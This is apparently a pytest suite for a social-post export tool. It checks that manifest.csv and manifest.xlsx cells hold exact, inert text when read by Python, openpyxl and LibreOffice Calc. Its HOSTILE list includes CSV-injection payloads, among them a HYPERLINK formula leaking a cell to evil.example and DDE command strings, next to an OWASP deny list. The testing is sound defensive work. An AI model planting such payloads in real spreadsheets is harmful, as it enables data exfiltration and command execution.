"""The export manifest read back by independent readers: every cell exact, no cell a formula or a value.

Readers: Python's csv module, openpyxl (manifest.xlsx) and LibreOffice Calc headless (both files,
where installed): Calc imports manifest.csv with the options that change the most (formulas
evaluated, special numbers detected, quoted fields not forced to text, Japanese locale), and
re-saves manifest.xlsx as CSV, which writes a formula's result and a number's digits, not the text.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
import unicodedata
import zipfile
from pathlib import Path
from typing import Any, NamedTuple

import pytest

from pasha_cli.characters import digest, visible
from pasha_cli.plan.manifest import csv_cell, excel_length, xlsx_text
from tests.conftest import jpeg_bytes, run

NOW = "2030-03-01 12:00"
COLUMNS = [
    "account",
    "account_name",
    "publish_at",
    "deadline",
    "status",
    "body",
    "digest",
    "link",
    "image",
    "text_file",
    "source",
]
OWASP_STARTS = "=+-@\t\r\n"  # OWASP's CSV-injection list: no cell of manifest.csv may begin with one

# (id, value, whether a spreadsheet could read it as other than text, so that manifest.csv quotes it)
HOSTILE: list[tuple[str, str, bool]] = [
    ("hyperlink", '=HYPERLINK("https://evil.example/?d="&A1,"クリック")', True),
    ("formula", "=1+2", True),
    ("dde", "=cmd|' /C calc'!A0", True),
    ("dde-at", "@cmd|' /C calc'!A0", True),
    ("at-sum", "@SUM(1,2)", True),
    ("plus-phone", "+81 3-1234-5678", True),
    ("minus-percent", "-20%オフ", True),
    ("minus-sign", "\u22125", True),
    ("tab-start", "\t=1+2", True),
    ("cr-start", "\r=1+2", True),
    ("lf-start", "\n=1+2", True),
    ("space-number", " 123", True),
    ("nbsp-number", "\u00a0123", True),
    ("ideographic-space", "\u3000=1+2", True),
    ("zero-width-start", "\u200b=1+2", True),
    ("fullwidth-equals", "＝1＋2", True),
    ("fullwidth-plus", "＋81", True),
    ("fullwidth-minus", "－5", True),
    ("fullwidth-at", "＠SUM(1)", True),
    ("small-equals", "\ufe661+1", True),
    ("owasp-example-1", '=1+2";=1+2', True),
    ("owasp-example-2", "=1+2'\" ;,=1+2", True),
    ("leading-zero", "0120123456", True),
    ("fullwidth-digits", "０１２０１２３４５６", True),
    ("arabic-digits", "\u0661\u0662", True),
    ("circled-digit", "①", True),
    ("long-digits", "12345678901234567890", True),
    ("date-slash", "6/1", True),
    ("date-iso", "2030-05-07", True),
    ("date-kanji", "5月1日", True),
    ("date-era", "令和2年5月1日", True),
    ("date-era-initial", "R2.5.1", True),
    ("date-month-name", "May 1", True),
    ("date-month-dash", "Jun-30", True),
    ("time", "12:30", True),
    ("time-pm", "午後1時", True),
    ("fraction", "1/2", True),
    ("fraction-mixed", "1 1/2", True),
    ("fraction-fullwidth", "１／２", True),
    ("percent", "10%", True),
    ("scientific", "1E5", True),
    ("scientific-fullwidth", "１E５", True),
    ("decimal-point", ".5", True),
    ("thousands", "1,234", True),
    ("parenthesised", "(100)", True),
    ("yen", "¥500", True),
    ("fullwidth-yen", "￥500", True),
    ("dollar", "$5", True),
    ("boolean", "TRUE", True),
    ("boolean-lower", "false", True),
    ("boolean-fullwidth", "ＴＲＵＥ", True),
    ("error-value", "#N/A", True),
    ("apostrophe", "'quoted", True),
    ("two-apostrophes", "''", True),
    ("fullwidth-apostrophe", "＇x", True),
    ("bom-start", "\ufeff=1", True),
    ("control-start", "\x01=1+2", True),
    # plain text stays as it is
    ("plain", "新茶の季節です", False),
    ("latin", "Summer sale", False),
    ("product-number", "iPhone 15", False),
    ("quotes", 'He said "hi"', False),
    ("embedded-newline", "一行目\n=1+2\n二行目", False),
    ("separators", "a,b;c\t=1+2", False),
    ("emoji", "お茶🍵=1", False),
    ("ooxml-escape-literal", "a_x0041_b", False),
    ("ooxml-escape-chain", "_x0041_x0042_", False),
    ("ooxml-underscore", "SKU_x0041", False),
    ("ooxml-lowercase", "_x00e9_", False),
    ("control-inside", "a\x01b\x1fc", False),
    ("cr-inside", "a\rb\r\nc", False),
    ("nonchar", "a\ufffeb\uffffc", False),
    ("trailing-space", "abc ", False),
    ("long", "長" * 3000, False),
]


class Case(NamedTuple):
    id: str
    column: str
    expected: str  # the exact text the cell must hold ("" for an image: the archive's name, read from the zip)
    quoted: bool | None  # whether manifest.csv adds an apostrophe (None: not asserted)
    row: int  # the manifest row (0-based, header not counted) holding the cell


class Plan(NamedTuple):
    cases: list[Case]
    drafts: list[tuple[str, dict[str, str]]]  # (path in the project, JSON fields), in row order
    accounts: list[tuple[str, str]]  # (id, name)
    images: list[str]  # files to make under posts/img/


def _name_ok(value: str) -> bool:
    """Whether `value` can be part of a file name here (and one that the drafts' glob sees)."""
    return (
        "/" not in value
        and "\x00" not in value
        and not value.startswith(".")
        and value.strip() != ""
        and len(value.encode()) < 200
    )


def _body(value: str) -> str:
    return value.replace("\r\n", "\n").replace("\r", "\n").rstrip("\n")  # drafts.py's normalisation of a body


def _plan() -> Plan:
    """One draft per (value, column): the value in the body, the link, the image's name, the draft's own
    name (source), the account's name and, where the schema's id pattern allows, the account id."""
    plan = Plan([], [], [("shop", "店")], [])

    def draft(path: str, account: str = "shop", **fields: str) -> int:
        n = len(plan.drafts)  # publication times in the drafts' order, so rows come in that order
        plan.drafts.append(
            (
                path,
                {
                    "account": account,
                    "publish_at": f"2030-{5 + n // 600:02d}-{1 + n // 24 % 25:02d} {n % 24:02d}:{n % 60:02d}",
                    "body": "本文",
                    **fields,
                },
            )
        )
        return n

    for number, (name, value, quoted) in enumerate(HOSTILE):
        row = draft(f"posts/body-{number:03d}.json", body=value)
        plan.cases.append(Case(name, "body", _body(value), quoted if _body(value) == value else None, row))
        plan.cases.append(Case(name, "digest", digest(_body(value), 100), None, row))
        plan.cases.append(Case(name, "link", value, quoted, draft(f"posts/link-{number:03d}.json", link=value)))
        plan.accounts.append((f"a{number:03d}", value))
        plan.cases.append(
            Case(name, "account_name", value, quoted, draft(f"posts/name-{number:03d}.json", f"a{number:03d}"))
        )
        if _name_ok(value):
            plan.images.append(f"{value}.jpg")
            plan.cases.append(
                Case(name, "image", "", False, draft(f"posts/image-{number:03d}.json", image=f"img/{value}.jpg"))
            )
            plan.cases.append(Case(name, "source", visible(f"{value}.json"), None, draft(f"{value}.json")))
        if re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9._-]*", value):
            plan.accounts.append((value, "x"))
            plan.cases.append(Case(name, "account", value, quoted, draft(f"posts/id-{number:03d}.json", value)))
    return plan


PLAN = _plan()
CASES = [pytest.param(c, id=f"{c.column}-{c.id}") for c in PLAN.cases]


class Bundle(NamedTuple):
    names: list[str]  # the zip's entries
    csv_rows: list[list[str]]  # header first
    xlsx_rows: list[list[Any]]  # openpyxl's cells
    raw_csv: bytes  # manifest.csv as written
    raw_xlsx: bytes  # manifest.xlsx as written


class Calc(NamedTuple):
    lo_csv: list[list[tuple[str, str]]]  # manifest.csv as Calc imports it: (data type, what it shows)
    lo_xlsx: list[list[str]]  # manifest.xlsx as Calc re-saves it as CSV


def _all_rules_off() -> str:
    from pasha_cli.rules import ALL_RULES

    return "[severity]\n" + "".join(f'{r.code} = "off"\n' for r in ALL_RULES)


def _toml(value: str) -> str:
    return json.dumps(value, ensure_ascii=False)  # TOML basic strings take JSON's escapes


def _write(root: Path, plan: Plan) -> None:
    (root / "posts" / "img").mkdir(parents=True)
    for name in plan.images:
        (root / "posts" / "img" / name).write_bytes(jpeg_bytes(8, 8))
    for path, fields in plan.drafts:
        (root / path).write_text(json.dumps(fields, ensure_ascii=False), "utf-8")
    accounts = "".join(
        f'[accounts.{_toml(key)}]\nname = {_toml(name)}\nplan = "paid"\n\n' for key, name in plan.accounts
    )
    (root / "pasha.toml").write_text('drafts = ["posts/*.json", "*.json"]\n\n' + accounts + _all_rules_off(), "utf-8")


def _soffice() -> str | None:
    return shutil.which("soffice") or shutil.which("libreoffice")


def _convert(soffice: str, source: Path, target: str, out: Path, *infilter: str) -> Path:
    profile = out / "profile"  # its own profile: no first-start dialogue, no lock shared with another run
    done = subprocess.run(
        [
            soffice,
            f"-env:UserInstallation={profile.as_uri()}",
            "--headless",
            "--norestore",
            *(f"--infilter={f}" for f in infilter),
            "--convert-to",
            target,
            "--outdir",
            str(out),
            str(source),
        ],
        capture_output=True,
        timeout=300,
    )
    converted = out / f"{source.stem}.{target.split(':', maxsplit=1)[0]}"
    assert converted.is_file(), done.stdout.decode(errors="replace") + done.stderr.decode(errors="replace")
    return converted


@pytest.fixture(scope="module")
def bundle(tmp_path_factory: pytest.TempPathFactory) -> Bundle:
    """The exported bundle as Python reads it: what the cell tests check, in the inner loop too."""
    import openpyxl

    root = tmp_path_factory.mktemp("manifest")
    _write(root, PLAN)
    out = root / "bundle.zip"
    result = run(["export", "-o", str(out), "--config", str(root / "pasha.toml"), "--now", NOW])
    assert result.exit_code == 0, result.output + result.stderr
    with zipfile.ZipFile(out) as archive:
        names = archive.namelist()
        raw_csv, raw_xlsx = archive.read("manifest.csv"), archive.read("manifest.xlsx")
    csv_rows = list(csv.reader(io.StringIO(raw_csv.decode("utf-8-sig"), newline="")))
    xlsx_rows = [list(row) for row in openpyxl.load_workbook(io.BytesIO(raw_xlsx)).active.iter_rows()]
    assert len(csv_rows) == len(xlsx_rows) == len(PLAN.drafts) + 1
    return Bundle(names, csv_rows, xlsx_rows, raw_csv, raw_xlsx)


@pytest.fixture(scope="module")
def calc(bundle: Bundle, tmp_path_factory: pytest.TempPathFactory) -> Calc:
    """The same manifests as LibreOffice Calc reads them; only the (slow) Calc tests ask for it, so
    the inner loop never starts Calc."""
    import openpyxl

    soffice = _soffice()
    if not soffice:
        pytest.skip("LibreOffice is not installed (.ci/run installs it where apt is available)")
    work = tmp_path_factory.mktemp("lo")
    (work / "manifest.csv").write_bytes(bundle.raw_csv)
    (work / "manifest.xlsx").write_bytes(bundle.raw_xlsx)
    # CSV import, the options that change the most: comma, ", UTF-8 (76), from line 1, no column
    # formats, ja-JP (1041), quoted fields not forced to text, special numbers detected, spaces kept,
    # formulas evaluated (token 13)
    options = "CSV:44,34,76,1,,1041,false,true,false,false,false,-1,true"
    imported = _convert(soffice, work / "manifest.csv", "xlsx", work / "csv-to-xlsx", options)
    kinds = [[c.data_type for c in row] for row in openpyxl.load_workbook(imported).active.iter_rows()]
    # what the cells show, as Calc writes them out: a formula's result, a number's digits, or the text
    shown = _convert(
        soffice, work / "manifest.csv", "csv:Text - txt - csv (StarCalc):44,34,76,1", work / "csv-to-csv", options
    )
    texts = list(csv.reader(io.StringIO(shown.read_bytes().decode("utf-8"), newline="")))
    lo_csv = [list(zip(k, t, strict=True)) for k, t in zip(kinds, texts, strict=True)]
    resaved = _convert(
        soffice, work / "manifest.xlsx", "csv:Text - txt - csv (StarCalc):44,34,76,1", work / "from-xlsx"
    )
    lo_xlsx = list(csv.reader(io.StringIO(resaved.read_bytes().decode("utf-8"), newline="")))
    return Calc(lo_csv, lo_xlsx)


def _expected(bundle: Bundle, case: Case) -> str:
    if case.column == "image":  # the name the image has in the archive, which the cell must give exactly
        return next(n for n in bundle.names if n.startswith(f"images/{case.row + 1:03d}-"))
    return case.expected


def _ooxml_decoded(text: str) -> str:
    """A string cell as ECMA-376 Part 1, 22.4.2.4 reads it (openpyxl hands the stored text over as is)."""
    return re.sub("_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), text)


def _lines(text: str) -> str:
    """Text as a Calc cell holds it: a cell of several lines keeps its breaks as LF, so a CR becomes one
    (Calc's cell model, not the file: openpyxl and csv read the CR back from both files)."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def _unquoted(cell: str) -> str:
    """The README's rule for manifest.csv: remove one leading apostrophe where there is one."""
    return cell[1:] if cell.startswith("'") else cell


COLUMN = {name: number for number, name in enumerate(COLUMNS)}


@pytest.mark.sample(2, per=lambda p: p["case"].column)  # a couple of values in every column
@pytest.mark.parametrize("case", CASES)
def test_csv_cell_is_inert_and_gives_the_exact_text(bundle: Bundle, case: Case) -> None:
    cell = bundle.csv_rows[case.row + 1][COLUMN[case.column]]
    assert _unquoted(cell) == _expected(bundle, case)
    assert not cell or (cell[0] not in OWASP_STARTS and unicodedata.normalize("NFKC", cell[0]) not in "=+-@")
    if case.quoted is not None:
        assert cell.startswith("'") is case.quoted


@pytest.mark.sample(2, per=lambda p: p["case"].column)
@pytest.mark.parametrize("case", CASES)
def test_xlsx_cell_is_text_with_the_exact_text(bundle: Bundle, case: Case) -> None:
    cell = bundle.xlsx_rows[case.row + 1][COLUMN[case.column]]
    assert cell.number_format == "@"
    if _expected(bundle, case):
        assert cell.data_type == "s"  # a string: not a formula ("f"), number ("n"), date ("d") or boolean ("b")
        assert _ooxml_decoded(cell.value) == _expected(bundle, case)
    else:
        assert cell.value is None


@pytest.mark.slow
@pytest.mark.parametrize("case", CASES)
def test_libreoffice_imports_the_csv_as_text(bundle: Bundle, calc: Calc, case: Case) -> None:
    kind, shown = calc.lo_csv[case.row + 1][COLUMN[case.column]]
    expected = _expected(bundle, case)
    assert kind == ("s" if expected else "n"), f"Calc made it {kind}: {shown!r}"  # an empty cell reads as "n"
    assert _lines(_unquoted(shown)) == _lines(expected)


@pytest.mark.slow
@pytest.mark.parametrize("case", CASES)
def test_libreoffice_reads_the_xlsx_exactly(bundle: Bundle, calc: Calc, case: Case) -> None:
    assert _lines(calc.lo_xlsx[case.row + 1][COLUMN[case.column]]) == _lines(_expected(bundle, case))


def test_every_column_is_covered() -> None:
    assert list(__import__("pasha_cli.plan.export", fromlist=["COLUMNS"]).COLUMNS) == COLUMNS
    user_text = {"account", "account_name", "body", "digest", "link", "image", "source"}
    assert user_text <= {c.column for c in PLAN.cases}


@pytest.mark.parametrize(("value", "quoted"), [pytest.param(v, q, id=i) for i, v, q in HOSTILE])
def test_csv_cell_rule_is_reversible(value: str, quoted: bool) -> None:
    assert csv_cell(value).startswith("'") is quoted
    assert _unquoted(csv_cell(value)) == value


XLSX_ESCAPES = [
    # (id, text, as manifest.xlsx stores it)
    ("plain", "新茶 abc", "新茶 abc"),
    ("tab-and-lf-stay", "a\tb\nc", "a\tb\nc"),
    ("control", "a\x01b", "a_x0001_b"),
    ("nul", "\x00", "_x0000_"),
    ("cr", "a\r\nb\rc", "a_x000D_\nb_x000D_c"),
    ("nonchars", "\ufffe\uffff", "_xFFFE__xFFFF_"),
    ("lone-surrogate", "\ud800", "_xD800_"),
    ("literal-escape", "_x0041_", "_x005F_x0041_"),
    ("literal-chain", "_x0041_x0042_", "_x005F_x0041_x005F_x0042_"),  # the 2nd opener is the 1st closer
    ("literal-before-an-escape", "SKU_x0041\x01", "SKU_x005F_x0041_x0001_"),
    ("literal-lowercase", "_x00e9_", "_x005F_x00e9_"),
    ("not-four-digits", "_x12_ _x12345_", "_x12_ _x12345_"),
    ("underscores", "a_b__c_", "a_b__c_"),
    ("emoji", "🍵👨‍👩‍👧", "🍵👨‍👩‍👧"),
]


@pytest.mark.parametrize(("text", "stored"), [pytest.param(t, s, id=i) for i, t, s in XLSX_ESCAPES])
def test_xlsx_text_escapes_as_ecma_376_says(text: str, stored: str) -> None:
    assert xlsx_text(text) == stored
    assert _ooxml_decoded(stored) == text


def _refused(result: Any, *parts: str) -> None:
    output = result.output + result.stderr
    assert result.exit_code == 1, output
    assert "Traceback" not in output and "internal error" not in output.lower()
    assert '"account","account_name"' not in output and "account,account_name" not in output  # no manifest dump
    for part in parts:
        assert part in result.stderr, result.stderr


CP932_BASE = 'drafts = ["posts/*.json"]\n\n[accounts.shop]\nname = "店"\nplan = "paid"\n\n'
# (id, drafts {path: fields}, images, config extra, the draft named, the fields named, the characters named)
CP932: list[tuple[str, dict[str, dict[str, str]], list[str], str, str, tuple[str, ...], str]] = [
    ("body-emoji", {"posts/a.json": {"body": "お茶🍵"}}, [], "", "posts/a.json", ("body", "digest"), "🍵"),
    ("body-wave-dash", {"posts/a.json": {"body": "10時〜18時"}}, [], "", "posts/a.json", ("body", "digest"), "〜"),
    ("body-minus-sign", {"posts/a.json": {"body": "\u22125%"}}, [], "", "posts/a.json", ("body", "digest"), "\u2212"),
    ("body-pound", {"posts/a.json": {"body": "£5"}}, [], "", "posts/a.json", ("body", "digest"), "£"),
    ("link", {"posts/a.json": {"link": "https://www.rakuten.co.jp/🍵/"}}, [], "", "posts/a.json", ("link",), "🍵"),
    ("image-name", {"posts/a.json": {"image": "写真🍵.jpg"}}, ["写真🍵.jpg"], "", "posts/a.json", ("image",), "🍵"),
    (
        "image-name-jis2004",
        {"posts/a.json": {"image": "𠮷野家.jpg"}},
        ["𠮷野家.jpg"],
        "",
        "posts/a.json",
        ("image",),
        "𠮷",
    ),
    ("draft-name", {"posts/新茶🍵.json": {}}, [], "", "posts/新茶🍵.json", ("text_file", "source"), "🍵"),
    (
        "account-name",
        {"posts/a.json": {"account": "tea"}},
        [],
        '[accounts.tea]\nname = "お茶〜の店"\nplan = "paid"\n',
        "posts/a.json",
        ("account_name",),
        "〜",
    ),
]


def _cp932_project(root: Path, drafts: dict[str, dict[str, str]], images: list[str], extra: str) -> Path:
    (root / "posts").mkdir()
    for name in images:
        (root / "posts" / name).write_bytes(jpeg_bytes(8, 8))
    for path, fields in drafts.items():
        content = {"account": "shop", "publish_at": "2030-05-07 09:00", "body": "本文", **fields}
        (root / path).write_text(json.dumps(content, ensure_ascii=False), "utf-8")
    (root / "pasha.toml").write_text(CP932_BASE + extra + _all_rules_off(), "utf-8")
    return root / "pasha.toml"


@pytest.mark.parametrize(
    ("drafts", "images", "extra", "path", "fields", "chars"), [pytest.param(*c[1:], id=c[0]) for c in CP932]
)
def test_cp932_refuses_every_column_cleanly(
    tmp_path: Path,
    drafts: dict[str, dict[str, str]],
    images: list[str],
    extra: str,
    path: str,
    fields: tuple[str, ...],
    chars: str,
) -> None:
    config = _cp932_project(tmp_path, drafts, images, extra)
    target = tmp_path / "cp932.zip"
    refused = run(["export", "-o", str(target), "--encoding", "cp932", "--config", str(config), "--now", NOW])
    _refused(refused, path, chars, "cp932")
    named = {line.split(": ", 1)[1].split(" ", 1)[0] for line in refused.stderr.splitlines() if ": " in line}
    assert named == set(fields)  # each column that holds the character, and no other
    assert not target.exists() and not list(tmp_path.glob(".*tmp*"))
    kept = run(["export", "-o", str(tmp_path / "utf8.zip"), "--config", str(config), "--now", NOW])
    assert kept.exit_code == 0, kept.output + kept.stderr  # UTF-8 holds it: the same bundle is written
    with zipfile.ZipFile(tmp_path / "utf8.zip") as archive:
        assert chars in archive.read("manifest.csv").decode("utf-8-sig")


LONG = [
    # (id, body, refused): Excel's cell limit is 32,767 UTF-16 units; an emoji beyond U+FFFF takes 2
    ("at-the-limit", "a" * 32_767, False),
    ("one-over", "a" * 32_768, True),
    ("emoji-at-the-limit", "🍵" * 16_383 + "a", False),
    ("emoji-over", "🍵" * 16_384, True),
]


@pytest.mark.parametrize(("body", "refused"), [pytest.param(b, r, id=i) for i, b, r in LONG])
def test_a_cell_longer_than_excel_holds_is_refused(tmp_path: Path, body: str, refused: bool) -> None:
    import openpyxl

    config = _cp932_project(tmp_path, {"posts/a.json": {"body": body}}, [], "")
    target = tmp_path / "out.zip"
    result = run(["export", "-o", str(target), "--config", str(config), "--now", NOW])
    assert excel_length(body) == 32_767 + refused
    if refused:
        _refused(result, "posts/a.json", "body", "32,768", "32,767")
        assert not target.exists()
        return
    assert result.exit_code == 0, result.output + result.stderr
    with zipfile.ZipFile(target) as archive:
        sheet = openpyxl.load_workbook(io.BytesIO(archive.read("manifest.xlsx"))).active
        assert sheet.cell(row=2, column=COLUMNS.index("body") + 1).value == body  # whole: openpyxl cuts nothing


def test_the_bundle_is_the_same_bytes_for_the_same_input(tmp_path: Path) -> None:
    """Nothing in the bundle comes from the clock: every entry, and every entry of manifest.xlsx, is dated
    --now, docProps/core.xml says --now (in UTC), so two runs give the same bytes."""
    config = _cp932_project(tmp_path, {"posts/a.json": {"body": "=1+2", "image": "a.jpg"}}, ["a.jpg"], "")
    first, second = tmp_path / "1.zip", tmp_path / "2.zip"
    for target in (first, second):
        assert run(["export", "-o", str(target), "--config", str(config), "--now", NOW]).exit_code == 0
    assert first.read_bytes() == second.read_bytes()
    with zipfile.ZipFile(first) as archive:
        assert archive.namelist() == ["texts/001-a.txt", "images/001-a-a.jpg", "manifest.csv", "manifest.xlsx"]
        assert {i.date_time for i in archive.infolist()} == {(2030, 3, 1, 12, 0, 0)}
        with zipfile.ZipFile(io.BytesIO(archive.read("manifest.xlsx"))) as book:
            assert {i.date_time for i in book.infolist()} == {(2030, 3, 1, 12, 0, 0)}
            core = book.read("docProps/core.xml").decode()
    assert re.findall(r"<dcterms:(\w+)[^>]*>([^<]*)<", core) == [
        ("created", "2030-03-01T03:00:00Z"),
        ("modified", "2030-03-01T03:00:00Z"),
    ]


def test_the_workbook_has_one_sheet_with_the_columns() -> None:
    import openpyxl

    from pasha_cli.plan.manifest import xlsx_bytes

    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(COLUMNS, [], __import__("datetime").datetime(2030, 3, 1))))
    assert book.sheetnames == ["manifest"]
    assert [c.value for c in next(book.active.iter_rows())] == COLUMNS
